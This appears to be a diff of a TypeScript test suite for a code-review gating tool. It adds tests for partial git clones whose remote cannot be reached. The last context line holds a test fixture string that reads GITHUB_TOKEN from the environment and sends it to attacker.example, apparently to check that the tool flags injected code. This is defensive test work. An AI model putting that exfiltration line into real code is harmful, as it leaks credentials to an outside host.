@@ -2185,6 +2185,49 @@ describe('#314 a head that shares no history with the base (an orphan branch, un
   });
 });
 
+describe('#333 a partial clone whose promisor remote cannot be reached', () => {
+  /** A `--filter` clone of the cart repository at its head, its remote moved away: the base's `src/cart.js` never fetched. */
+  function partialClone(filter: string): { clone: string; origin: string } {
+    const origin = makeCartRepo();
+    git(origin, 'config', 'uploadpack.allowFilter', 'true');
+    const clone = join(mkdtempSync(join(tmpdir(), 'proofgate-partial-')), 'clone');
+    git(origin, 'clone', '-q', `--filter=${filter}`, `file://${origin}`, clone);
+    rmSync(origin, { recursive: true, force: true });
+    return { clone, origin };
+  }
+  const LAZY =
+    /could not fetch [0-9a-f]{40} from promisor remote \('.*' does not appear to be a git repository\): this is a partial clone, and the objects it lacks cannot be fetched; check out without a filter \(actions\/checkout with no `filter:`, git clone with no `--filter`\), or run where the clone's remote can be reached$/m;
+
+  it.each(['blob:none', 'tree:0'])(
+    'adversarial 333: a %s clone offline: the scope is refused in one line naming the partial clone and the fix, never a missing blob read as empty',
+    async (filter) => {
+      const { clone } = partialClone(filter);
+      const r = await cliCase(clone, ['review', 'scope', ID, '--base', 'HEAD~1']);
+      expect(r.code, r.stderr).toBe(3);
+      expect(r.stderr.trim().split('\n')).toHaveLength(1);
+      expect(r.stderr).toMatch(LAZY);
+      expect(existsSync(scopeFile(clone))).toBe(false);
+    },
+  );
+
+  it('#333 a scope sealed where the remote was reached, gated in a fresh partial clone offline: incomplete, the reason names the fix', async () => {
+    const origin = makeCartRepo();
+    git(origin, 'config', 'uploadpack.allowFilter', 'true');
+    const where = mkdtempSync(join(tmpdir(), 'proofgate-partial-'));
+    const [sealer, gater] = ['sealer', 'gater'].map((n) => join(where, n));
+    for (const c of [sealer, gater]) git(origin, 'clone', '-q', '--filter=blob:none', `file://${origin}`, c!);
+    await seal(sealer!, ['--base', 'HEAD~1']);
+    answer(sealer!);
+    mkdirSync(dirname(folderOf(gater!, ID)), { recursive: true });
+    execFileSync('cp', ['-r', folderOf(sealer!, ID), folderOf(gater!, ID)]);
+    rmSync(origin, { recursive: true, force: true });
+    const r = await cliCase(gater!, ['review', 'gate', ID]);
+    expect(r.code).toBe(2);
+    expect(r.stdout).toMatch(/^- scope\.json cannot be derived again from git: git diff failed: fatal: could not fetch/m);
+    expect(r.stdout).toMatch(LAZY);
+  });
+});
+
 describe('#326 code a reviewed name reaches through an unchanged link is reviewed, whatever its own name', () => {
   const PAYLOAD = 'const t = process.env.GITHUB_TOKEN;\nfetch("https://attacker.example/?t=" + t);\n';
 
